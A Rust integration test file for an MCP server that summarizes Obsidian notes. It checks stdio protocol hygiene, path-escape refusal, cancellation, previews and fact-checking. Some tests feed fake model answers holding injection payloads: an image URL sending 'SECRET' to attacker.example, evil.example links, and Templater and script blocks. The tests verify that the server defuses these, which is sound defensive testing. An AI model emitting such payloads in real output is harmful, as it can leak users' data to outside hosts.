//! The built `vaultsum mcp` binary as a child process: rmcp's client over its stdio, and raw
//! JSON-RPC lines to check that stdout carries only the protocol and bad input is survived.

use crate::support;

use std::path::Path;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use rmcp::model::{CallToolRequestParams, CallToolResult, JsonObject};
use rmcp::service::{RoleClient, RunningService};
use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
use rmcp::ServiceExt;
use serde_json::{json, Value};
use support::fake_openai::{FakeOpenAi, FakeReply};
use support::fake_server::Ended;
use support::poll::{eventually, wait_until_async};
use support::temp_vault::TempVault;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::Command;
use vaultsum_tools::config::Config;
use vaultsum_tools::context::LOCAL_FALLBACK_NOTICE;
use vaultsum_tools::{Registry, ToolContext};

const BIN: &str = env!("CARGO_BIN_EXE_vaultsum");
const WAIT: Duration = Duration::from_secs(20);

/// What `vaultsum tools --json` describes for a default configuration.
fn expected_tools() -> Value {
    Registry::new(Arc::new(
        ToolContext::new(Config::default()).expect("a context without a vault always builds"),
    ))
    .describe()
}

fn server_command(vault: &std::path::Path) -> Command {
    Command::new(BIN).configure(|cmd| {
        cmd.arg("--vault")
            .arg(vault)
            .arg("mcp")
            .env("RUST_LOG", "debug")
            .env_remove("VAULTSUM_CONFIG")
            .env_remove("FIREWORKS_API_KEY")
            .env_remove("KAGI_API_KEY");
    })
}

#[tokio::test]
async fn rmcp_client_over_child_stdio_lists_and_calls_every_tool() {
    let vault = tempfile::tempdir().unwrap();
    std::fs::create_dir(vault.path().join(".obsidian")).unwrap();
    let (transport, _stderr) = TokioChildProcess::builder(server_command(vault.path()))
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn vaultsum mcp");
    let client = ().serve(transport).await.expect("handshake with the binary");

    let info = client.peer_info().unwrap();
    let implementation = info.server_info.as_ref().unwrap();
    assert_eq!(implementation.name, "vaultsum");
    assert_eq!(implementation.version, env!("CARGO_PKG_VERSION"));

    let tools = client.list_all_tools().await.unwrap();
    let listed: Vec<Value> = tools
        .iter()
        .map(|tool| {
            let mut listed = json!({
                "name": tool.name,
                "title": tool.title,
                "description": tool.description,
                "input_schema": Value::Object((*tool.input_schema).clone()),
                "annotations": tool.annotations,
            });
            if let Some(schema) = &tool.output_schema {
                listed["output_schema"] = Value::Object((**schema).clone());
            }
            listed
        })
        .collect();
    assert_eq!(Value::Array(listed), expected_tools());

    // Every tool answers a call without its required arguments with an actionable error result.
    for tool in &tools {
        let result = client
            .call_tool(
                CallToolRequestParams::new(tool.name.clone()).with_arguments(JsonObject::new()),
            )
            .await
            .unwrap();
        let text = &result.content[0].as_text().unwrap().text;
        assert_eq!(result.is_error, Some(true), "{}: {text}", tool.name);
        // A tool whose answer is a record keeps its error in the record too.
        match &tool.output_schema {
            Some(_) => {
                let record = result.structured_content.as_ref().expect("a record");
                assert_eq!(record["success"], json!(false), "{}", tool.name);
                assert!(
                    record["error"]
                        .as_str()
                        .is_some_and(|error| text.contains(error) || error.contains(text.as_str())),
                    "{}: {record} against {text}",
                    tool.name
                );
            }
            None => assert!(result.structured_content.is_none(), "{}", tool.name),
        }
        assert!(result
            .meta
            .as_ref()
            .is_some_and(|m| m.contains_key("details")));
    }
    let unknown = client
        .call_tool(CallToolRequestParams::new("nope"))
        .await
        .unwrap();
    assert_eq!(unknown.is_error, Some(true));
    assert!(unknown.content[0]
        .as_text()
        .unwrap()
        .text
        .starts_with("unknown tool: nope"));
    assert!(unknown
        .meta
        .as_ref()
        .is_some_and(|m| m.contains_key("details")));
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn stdout_is_only_protocol_and_bad_lines_do_not_stop_the_server() {
    let vault = tempfile::tempdir().unwrap();
    let mut child = server_command(vault.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // Drain stderr as it comes: debug logs of a 4 MB request would fill the pipe otherwise.
    let mut stderr_pipe = child.stderr.take().unwrap();
    let stderr_task = tokio::spawn(async move {
        let mut stderr = String::new();
        let _ = tokio::io::AsyncReadExt::read_to_string(&mut stderr_pipe, &mut stderr).await;
        stderr
    });
    let huge = "y".repeat(4 * 1024 * 1024);
    let lines = [
        json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": { "name": "raw", "version": "0" } } })
        .to_string(),
        json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }).to_string(),
        "{ this line is not JSON".to_string(),
        json!({ "hello": "not json-rpc" }).to_string(),
        json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/call",
                "params": { "name": "no_such_tool", "arguments": { "blob": huge } } })
        .to_string(),
        json!({ "jsonrpc": "2.0", "id": 3, "method": "tools/list" }).to_string(),
    ];
    for line in &lines {
        stdin.write_all(line.as_bytes()).await.unwrap();
        stdin.write_all(b"\n").await.unwrap();
    }
    stdin.flush().await.unwrap();

    let mut stdout = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut answered = Vec::new();
    let mut invalid_request_seen = false;
    while answered.len() < 3 {
        let line = tokio::time::timeout(WAIT, stdout.next_line())
            .await
            .expect("server answered in time")
            .unwrap()
            .expect("stdout open");
        let message: Value = serde_json::from_str(&line)
            .unwrap_or_else(|e| panic!("stdout carried a non-JSON line ({e}): {line:.200}"));
        assert_eq!(message["jsonrpc"], "2.0", "not JSON-RPC: {line:.200}");
        match message.get("id").and_then(Value::as_u64) {
            Some(id) => answered.push((id, message)),
            None => {
                // The well-formed non-JSON-RPC line gets an Invalid Request error (id null).
                assert_eq!(message["error"]["code"], -32600, "{message}");
                invalid_request_seen = true;
            }
        }
    }
    answered.sort_by_key(|(id, _)| *id);
    assert_eq!(answered[0].1["result"]["serverInfo"]["name"], "vaultsum");
    let huge_reply = &answered[1].1["result"];
    assert_eq!(huge_reply["isError"], true);
    assert!(huge_reply["content"][0]["text"]
        .as_str()
        .unwrap()
        .starts_with("unknown tool"));
    assert!(answered[2].1["result"]["tools"].is_array());
    // Unparsable input is ignored, as every official MCP SDK does (no id to answer to).
    let late = tokio::time::timeout(Duration::from_millis(300), stdout.next_line()).await;
    if let Ok(Ok(Some(line))) = late {
        let message: Value = serde_json::from_str(&line).expect("stdout is JSON-RPC only");
        assert_eq!(message["error"]["code"], -32600, "{message}");
        invalid_request_seen = true;
    }
    assert!(
        invalid_request_seen,
        "the non-JSON-RPC object got no Invalid Request error"
    );

    // Closing stdin ends the session and the process exits cleanly; its logs went to stderr.
    drop(stdin);
    let status = tokio::time::timeout(WAIT, child.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(status.success(), "exit status {status}");
    let stderr = stderr_task.await.unwrap();
    assert!(
        stderr.contains("DEBUG"),
        "RUST_LOG=debug logs expected on stderr"
    );
}

// ---- The real tools through the binary ----

const WEEKLY_SYNC: &str = "Meetings/2024-03-04 Weekly sync.md";
/// A note without media embeds: summarizing it makes exactly one LLM request.
const PLAN: &str = "Projects/Alpha/Plan.md";

fn fixture_copy() -> TempVault {
    TempVault::copy_of(&Path::new(env!("CARGO_MANIFEST_DIR")).join("vault-fixture"))
}

/// `vaultsum --vault V mcp ARGS` with `envs`, driven by rmcp's client over its stdio.
async fn connect_binary(
    vault: &Path,
    args: &[&str],
    envs: &[(&str, String)],
) -> RunningService<RoleClient, ()> {
    let command = server_command(vault).configure(|cmd| {
        cmd.args(args);
        for (key, value) in envs {
            cmd.env(key, value);
        }
    });
    let (transport, _stderr) = TokioChildProcess::builder(command)
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn vaultsum mcp");
    ().serve(transport)
        .await
        .expect("handshake with the binary")
}

async fn call(
    client: &RunningService<RoleClient, ()>,
    name: &str,
    arguments: Value,
) -> CallToolResult {
    let arguments = arguments.as_object().expect("object arguments").clone();
    client
        .call_tool(CallToolRequestParams::new(name.to_string()).with_arguments(arguments))
        .await
        .expect("tools/call answered")
}

fn text_of(result: &CallToolResult) -> &str {
    &result.content[0].as_text().expect("text content").text
}

/// Calls read_file on `path` until its text satisfies `done`; fails after the deadline.
async fn read_until(
    client: &RunningService<RoleClient, ()>,
    path: &str,
    what: &str,
    done: impl Fn(&str) -> bool,
) {
    let last = std::sync::Mutex::new(String::new());
    let (last, done) = (&last, &done);
    let reached = eventually(move || async move {
        let result = call(client, "read_file", json!({ "path": path })).await;
        assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
        *last.lock().unwrap() = text_of(&result).to_string();
        done(text_of(&result))
    })
    .await;
    assert!(
        reached,
        "{what}: read_file still says {:?}",
        last.lock().unwrap()
    );
}

#[tokio::test]
async fn links_resolve_against_notes_created_renamed_and_deleted_after_start() {
    let vault = TempVault::with(&[
        (".obsidian/app.json", "{}"),
        ("A.md", "Before.\n\n![[B]]\n\nAfter.\n"),
    ]);
    let client = connect_binary(&vault.root(), &[], &[]).await;
    const MISSING: &str = "[Embed failed: B: not found]";
    let first = call(&client, "read_file", json!({ "path": "A.md" })).await;
    assert!(text_of(&first).contains(MISSING), "{}", text_of(&first));

    vault.write("Inbox/B.md", "The body of B.");
    read_until(&client, "A.md", "B created", |text| {
        text.contains("The body of B.") && !text.contains(MISSING)
    })
    .await;

    std::fs::rename(
        vault.root().join("Inbox/B.md"),
        vault.root().join("Inbox/C.md"),
    )
    .unwrap();
    read_until(&client, "A.md", "B renamed to C", |text| {
        text.contains(MISSING)
    })
    .await;

    std::fs::rename(vault.root().join("Inbox/C.md"), vault.root().join("B.md")).unwrap();
    read_until(&client, "A.md", "C renamed back to B", |text| {
        text.contains("The body of B.")
    })
    .await;

    std::fs::remove_file(vault.root().join("B.md")).unwrap();
    read_until(&client, "A.md", "B deleted", |text| text.contains(MISSING)).await;
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn real_tools_read_refuse_escapes_and_summarize_offline() {
    let vault = fixture_copy();
    let before = vault.read(WEEKLY_SYNC);
    let client = connect_binary(&vault.root(), &[], &[("VAULTSUM_ENGINE", "local".into())]).await;

    let read = call(&client, "read_file", json!({ "path": WEEKLY_SYNC })).await;
    assert_eq!(read.is_error, Some(false), "{}", text_of(&read));
    assert!(text_of(&read)
        .contains("| Pilot with twelve technicians in the north region | 6 May | Priya |"));
    let details = &read.meta.as_ref().expect("_meta")["details"];
    assert!(details["expansion"]["embeds"]
        .as_array()
        .unwrap()
        .iter()
        .any(|embed| embed["path"] == "Projects/Alpha/Plan.md"));

    let escape = call(&client, "read_file", json!({ "path": "../x" })).await;
    assert_eq!(escape.is_error, Some(true));
    assert_eq!(text_of(&escape), "path escapes the vault: ../x");

    let summary = call(&client, "summarize_file", json!({ "path": WEEKLY_SYNC })).await;
    assert_eq!(summary.is_error, Some(false), "{}", text_of(&summary));
    let reply: Value = serde_json::from_str(text_of(&summary)).expect("JSON text");
    assert_eq!(reply["success"], true);
    let after = vault.read(WEEKLY_SYNC);
    assert!(after.starts_with(&before), "the note's own text changed");
    assert!(String::from_utf8_lossy(&after[before.len()..]).contains("## Summary\n"));
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn summarize_file_over_mcp_takes_a_prompt_a_language_and_where_to_write() {
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(
        "### Decisions\n\n- Ship in May.\n\n<abstract>The team decided to ship in May.</abstract>",
    ));
    let vault = fixture_copy();
    let mut envs = fake.env();
    envs.push(("VAULTSUM_ENGINE", "llm".into()));
    let envs: Vec<(&str, String)> = envs.into_iter().collect();
    let client = connect_binary(&vault.root(), &[], &envs).await;

    // The schema an agent sees offers the three arguments.
    let tools = client.list_all_tools().await.unwrap();
    let schema = &tools
        .iter()
        .find(|t| t.name == "summarize_file")
        .unwrap()
        .input_schema;
    for name in ["prompt", "language", "into"] {
        assert!(schema["properties"][name].is_object(), "{name}: {schema:?}");
    }
    assert_eq!(
        schema["properties"]["into"]["enum"],
        json!(["section", "property", "both"])
    );

    let result = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "prompt": "meeting", "language": "English", "into": "both" }),
    )
    .await;
    assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
    let details = &result.meta.as_ref().expect("_meta")["details"];
    assert_eq!(details["prompt"], "meeting");
    assert_eq!(details["prompt_from"], "call");
    assert_eq!(details["language"], "English");
    // What the call paid: every chat request the server answered (120 + 30 tokens each).
    let paid = fake
        .requests()
        .iter()
        .filter(|r| r.path == "/v1/chat/completions")
        .count() as u64;
    assert!(paid >= 1);
    assert_eq!(details["cost"]["requests"], paid);
    assert_eq!(details["cost"]["prompt_tokens"], 120 * paid);
    assert_eq!(details["cost"]["completion_tokens"], 30 * paid);
    let system = fake
        .requests()
        .iter()
        .find(|r| r.path == "/v1/chat/completions")
        .expect("a summary request")
        .system_text();
    assert!(
        system.contains("The note is a record of a meeting."),
        "{system}"
    );
    assert!(system.contains("Write the summary in English"), "{system}");
    let note = String::from_utf8(vault.read(PLAN)).unwrap();
    assert!(
        note.contains("summary: \"The team decided to ship in May.\""),
        "{note}"
    );
    assert!(note.contains("## Summary\n"), "{note}");
    assert!(!note.contains("<abstract>"), "{note}");

    let wrong = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "prompt": "meetng" }),
    )
    .await;
    assert_eq!(wrong.is_error, Some(true));
    assert!(
        text_of(&wrong).contains("unknown prompt"),
        "{}",
        text_of(&wrong)
    );
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn kagi_tools_without_a_key_answer_with_the_fix() {
    let vault = TempVault::new();
    let client = connect_binary(&vault.root(), &[], &[]).await;
    let cases = [
        (
            "summarize",
            json!({ "url": "https://example.com/a" }),
            "KAGI_API_KEY environment variable is not set. Set it to your Kagi API key to use summarize.",
        ),
        (
            "web_search",
            json!({ "queries": ["rust mcp"] }),
            "KAGI_API_KEY environment variable is not set. Set it to your Kagi API key to use web search.",
        ),
    ];
    for (tool, arguments, message) in cases {
        let result = call(&client, tool, arguments).await;
        assert_eq!(result.is_error, Some(true), "{tool}");
        assert_eq!(text_of(&result), message, "{tool}");
    }
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn cancelling_summarize_file_over_stdio_leaves_the_note_and_the_server_serving() {
    let fake = Arc::new(FakeOpenAi::start());
    fake.set_fallback(
        FakeReply::chat("### Key Points\n\n- too late").with_delay(Duration::from_secs(3)),
    );
    let vault = fixture_copy();
    let before = vault.read(PLAN);
    let mut envs = fake.env();
    envs.push(("VAULTSUM_ENGINE", "llm".into()));
    let envs: Vec<(&str, String)> = envs.into_iter().collect();
    let client = connect_binary(&vault.root(), &[], &envs).await;

    let slow = call(&client, "summarize_file", json!({ "path": PLAN }));
    tokio::select! {
        _ = slow => panic!("summarize_file finished before it could be cancelled"),
        arrived = wait_until_async(|| fake.request_count() >= 1) => assert!(arrived, "the LLM request never arrived"),
    }
    // Dropping the call future sent notifications/cancelled. The cancelled call drops its LLM
    // request, which the fake sees end unanswered, before its delayed reply: no reply ever
    // reached the call, so it cannot have written (or retried).
    assert!(
        wait_until_async(|| fake.ended_count() == 1).await,
        "the LLM request never ended"
    );
    assert_eq!(
        fake.requests()[0].ended,
        Some(Ended::Abandoned),
        "the cancelled call waited for the reply"
    );
    assert_eq!(vault.read(PLAN), before, "a cancelled call wrote");
    assert_eq!(fake.request_count(), 1, "the cancelled call kept going");

    let after = call(&client, "read_file", json!({ "path": PLAN, "length": 40 })).await;
    assert_eq!(after.is_error, Some(false), "the server stopped serving");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn offline_fallback_notice_goes_to_stderr_never_stdout() {
    let vault = fixture_copy();
    let mut child = server_command(&vault.root())
        .args(["--engine", "auto"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stderr_pipe = child.stderr.take().unwrap();
    let stderr_task = tokio::spawn(async move {
        let mut stderr = String::new();
        let _ = tokio::io::AsyncReadExt::read_to_string(&mut stderr_pipe, &mut stderr).await;
        stderr
    });
    let lines = [
        json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": { "name": "raw", "version": "0" } } }),
        json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }),
        json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/call",
                "params": { "name": "summarize_file", "arguments": { "path": WEEKLY_SYNC } } }),
    ];
    for line in &lines {
        stdin.write_all(line.to_string().as_bytes()).await.unwrap();
        stdin.write_all(b"\n").await.unwrap();
    }
    stdin.flush().await.unwrap();

    let mut stdout = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut everything = Vec::new();
    loop {
        let line = tokio::time::timeout(WAIT, stdout.next_line())
            .await
            .expect("server answered in time")
            .unwrap()
            .expect("stdout open");
        let message: Value = serde_json::from_str(&line)
            .unwrap_or_else(|e| panic!("stdout carried a non-JSON line ({e}): {line:.200}"));
        let done = message["id"] == 2;
        everything.push(message);
        if done {
            break;
        }
    }
    let reply = everything.last().unwrap();
    assert_eq!(reply["result"]["isError"], false, "{reply}");
    assert_eq!(
        reply["result"]["_meta"]["details"]["summarizer"]["engine"],
        "offline"
    );
    // Whatever else comes before the process ends must be protocol too.
    drop(stdin);
    while let Some(line) = tokio::time::timeout(WAIT, stdout.next_line())
        .await
        .expect("stdout closes")
        .unwrap()
    {
        let message: Value = serde_json::from_str(&line)
            .unwrap_or_else(|e| panic!("stdout carried a non-JSON line ({e}): {line:.200}"));
        assert_eq!(message["jsonrpc"], "2.0");
    }
    let stderr = stderr_task.await.unwrap();
    assert!(
        stderr.contains(LOCAL_FALLBACK_NOTICE),
        "the fallback notice is missing from stderr: {stderr:.500}"
    );
}

#[tokio::test]
async fn summarize_file_over_mcp_writes_a_hostile_answer_inert_and_reports_it_in_meta() {
    let vault = TempVault::with(&[(
        "Clip.md",
        "# Budget\n\nClipped from https://news.example/story.\n\nApproved on Monday.\n",
    )]);
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(
        "### Key Points\n- Approved, see [the story](https://news.example/story).\n\
         - ![c](https://attacker.example/p.png?d=SECRET)\n\
         - <img src=\"https://attacker.example/i.png\">\n\
         - <% tp.file.title %> `$= dv.pages()`\n\n\
         ```js-engine\nreturn 1\n```\n",
    ));
    // The answer is made up to test the output policy, not a summary of the note: the fact
    // check (fact_check.rs) would unlink and mark what the note does not hold.
    let mut envs = fake.env();
    envs.push(("VAULTSUM_FACT_CHECK", "off".to_string()));
    let client = connect_binary(&vault.root(), &[], &envs).await;
    let result = call(&client, "summarize_file", json!({ "path": "Clip.md" })).await;
    assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
    let note = String::from_utf8(vault.read("Clip.md")).unwrap();
    for construct in ["](https://attacker", "<img", "<%", "`$=", "```js-engine"] {
        assert!(!note.contains(construct), "{construct:?} written:\n{note}");
    }
    assert!(note.contains("- Approved, see [the story](https://news.example/story)."));
    assert!(
        note.contains("\\[image removed: attacker.example\\]"),
        "{note}"
    );
    let defused = &result.meta.as_ref().expect("_meta")["details"]["defused"];
    assert_eq!(
        *defused,
        // `links`: the escaped `<img>` shows its URL as text, which Obsidian would make
        // clickable, so it is a code span.
        json!({"remote_images": 1, "html": 1, "links": 1, "code_blocks": 1, "inline_code": 1, "templater": 1}),
        "the plugin reads what was made inert from _meta"
    );
    client.cancel().await.unwrap();
}

/// A call's `_meta.details`.
fn details_of(result: &CallToolResult) -> &Value {
    &result.meta.as_ref().expect("_meta")["details"]
}

/// A client of `vaultsum mcp` on a copy of the fixture, its LLM the fake, answering `answer`.
async fn previewing_client(
    answer: &str,
) -> (FakeOpenAi, TempVault, RunningService<RoleClient, ()>) {
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(answer));
    let vault = fixture_copy();
    let mut envs = fake.env();
    envs.push(("VAULTSUM_ENGINE", "llm".into()));
    let client = connect_binary(&vault.root(), &[], &envs).await;
    (fake, vault, client)
}

#[tokio::test]
async fn a_previewed_summary_is_written_as_shown_without_a_second_model_call() {
    let (fake, vault, client) =
        previewing_client("### Plan\n\n- Pilot in May, see [the spec](https://evil.example/x).")
            .await;
    let before = vault.read(PLAN);
    let preview = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "dry_run": true }),
    )
    .await;
    assert_eq!(preview.is_error, Some(false), "{}", text_of(&preview));
    assert_eq!(vault.read(PLAN), before, "a preview writes nothing");
    // The preview's calls: the answer, and the fact check's one corrective request.
    let calls = fake.request_count();
    assert!(calls >= 1);
    let details = details_of(&preview);
    let shown = details["summary"].as_str().unwrap().to_string();
    assert!(
        !shown.contains("](https://evil.example"),
        "made inert before it is shown: {shown}"
    );
    let id = details["preview_id"]
        .as_str()
        .expect("a preview id")
        .to_string();
    assert_eq!(
        preview.structured_content.as_ref().unwrap()["preview_id"],
        json!(id)
    );

    let written = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": id }),
    )
    .await;
    assert_eq!(written.is_error, Some(false), "{}", text_of(&written));
    let note = String::from_utf8(vault.read(PLAN)).unwrap();
    assert!(note.starts_with(std::str::from_utf8(&before).unwrap()));
    assert!(
        note.contains(&format!("\n\n{shown}\n")),
        "the summary shown, as shown:\n{note}"
    );
    assert_eq!(note.matches("## Summary").count(), 1);
    assert_eq!(fake.request_count(), calls, "no model call for the write");

    // Written once: the same id again is unknown, and nothing more is written.
    let again = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": id }),
    )
    .await;
    assert_eq!(again.is_error, Some(true));
    assert_eq!(
        details_of(&again)["code"],
        "preview_unknown",
        "{}",
        text_of(&again)
    );
    assert_eq!(String::from_utf8(vault.read(PLAN)).unwrap(), note);
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn a_preview_replaces_the_summary_section_when_asked() {
    let (_fake, vault, client) = previewing_client("### Plan\n\n- The new summary.").await;
    let first = call(&client, "summarize_file", json!({ "path": PLAN })).await;
    assert_eq!(first.is_error, Some(false), "{}", text_of(&first));
    let preview = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "dry_run": true }),
    )
    .await;
    let id = details_of(&preview)["preview_id"]
        .as_str()
        .unwrap()
        .to_string();
    let replaced = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": id, "replace": true }),
    )
    .await;
    assert_eq!(replaced.is_error, Some(false), "{}", text_of(&replaced));
    let note = String::from_utf8(vault.read(PLAN)).unwrap();
    assert_eq!(note.matches("## Summary").count(), 1, "{note}");
    assert!(note.trim_end().ends_with("- The new summary."), "{note}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn a_preview_of_a_note_changed_since_is_refused_and_the_note_kept() {
    let (_fake, vault, client) = previewing_client("### Plan\n\n- Pilot in May.").await;
    let preview = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "dry_run": true }),
    )
    .await;
    let id = details_of(&preview)["preview_id"]
        .as_str()
        .unwrap()
        .to_string();
    let mut edited = vault.read(PLAN);
    edited.extend_from_slice(b"\nA line typed after the preview.\n");
    vault.write(PLAN, &edited);

    let refused = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": id }),
    )
    .await;
    assert_eq!(refused.is_error, Some(true));
    assert_eq!(
        details_of(&refused)["code"],
        "preview_stale",
        "{}",
        text_of(&refused)
    );
    assert!(
        text_of(&refused).contains("changed since its preview"),
        "{}",
        text_of(&refused)
    );
    assert_eq!(vault.read(PLAN), edited);

    // Neither another note's preview nor arguments that would shape another summary.
    let other = call(
        &client,
        "summarize_file",
        json!({ "path": "Archive/Plan.md", "dry_run": true }),
    )
    .await;
    let other_id = details_of(&other)["preview_id"]
        .as_str()
        .unwrap_or("none")
        .to_string();
    let misplaced = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": other_id }),
    )
    .await;
    assert_eq!(
        details_of(&misplaced)["code"],
        "preview_unknown",
        "{}",
        text_of(&misplaced)
    );
    let own = call(
        &client,
        "summarize_file",
        json!({ "path": "Archive/Plan.md", "preview": other_id }),
    )
    .await;
    assert_eq!(
        own.is_error,
        Some(false),
        "left for its own note: {}",
        text_of(&own)
    );
    let shaped = call(
        &client,
        "summarize_file",
        json!({ "path": PLAN, "preview": "p1-1", "focus": "money" }),
    )
    .await;
    assert_eq!(
        details_of(&shaped)["code"],
        "invalid_arguments",
        "{}",
        text_of(&shaped)
    );
    assert_eq!(vault.read(PLAN), edited);
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn summarize_text_answers_a_callout_only_on_a_server_for_a_front_end() {
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(
        "- Ship in May, per [the plan](https://docs.example/plan).\n\
         - Pay [here](https://evil.example/pay).\n- <% tp.file.title %>",
    ));
    let vault = fixture_copy();
    let mut envs = fake.env();
    envs.push(("VAULTSUM_ENGINE", "llm".into()));
    let selection = "We ship in May (https://docs.example/plan), if the pilot holds.";
    let args = json!({ "text": selection, "format": "callout" });

    let for_agents = connect_binary(&vault.root(), &[], &envs).await;
    let refused = call(&for_agents, "summarize_text", args.clone()).await;
    assert_eq!(
        refused.is_error,
        Some(true),
        "not for agents: {}",
        text_of(&refused)
    );
    for_agents.cancel().await.unwrap();

    let client = connect_binary(&vault.root(), &["--cli-tools"], &envs).await;
    let tools = client.list_all_tools().await.unwrap();
    assert!(
        tools.iter().all(|t| t.name != "summarize_text"),
        "still unlisted"
    );
    let result = call(&client, "summarize_text", args).await;
    assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
    let block = text_of(&result);
    assert!(
        block.starts_with("> [!summary]\n> - Ship in May"),
        "{block}"
    );
    assert!(block.lines().all(|line| line.starts_with('>')), "{block}");
    assert!(
        block.contains("[the plan](https://docs.example/plan)"),
        "{block}"
    );
    assert!(!block.contains("](https://evil.example"), "{block}");
    assert!(!block.contains("<%"), "{block}");
    assert_eq!(details_of(&result)["format"], "callout");
    assert_eq!(
        details_of(&result)["defused"]["links"],
        1,
        "{}",
        details_of(&result)
    );
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn facts_the_note_does_not_hold_reach_an_agent_in_meta_and_the_record() {
    let vault = TempVault::with(&[(
        "Budget.md",
        "# Budget\n\nAna presented the budget: 4,000 euros for the pilot.\n",
    )]);
    let fake = FakeOpenAi::start();
    // The same altered answer to the request and to the corrective one: nothing corrected.
    fake.set_fallback(FakeReply::chat(
        "### Key Points\n- Ana presented a budget of 4,200 euros.",
    ));
    let client = connect_binary(&vault.root(), &[], &fake.env()).await;
    let result = call(&client, "summarize_file", json!({ "path": "Budget.md" })).await;
    assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
    let details = details_of(&result);
    assert_eq!(details["fact_check"]["mode"], "retry");
    assert_eq!(details["fact_check"]["retried"], true);
    assert_eq!(
        details["unsupported"],
        json!([{
            "fact": "4,200 euros",
            "kind": "number",
            "reason": "not_in_source",
            "why": "not in the note",
        }])
    );
    // The record (structuredContent) and the text carry the count.
    assert_eq!(
        result.structured_content.as_ref().unwrap()["unsupported"],
        1
    );
    assert!(text_of(&result).contains("\"unsupported\":1"));
    let note = String::from_utf8(vault.read("Budget.md")).unwrap();
    assert!(
        note.contains("> - `4,200 euros` (number): not in the note"),
        "{note}"
    );
    client.cancel().await.unwrap();
}
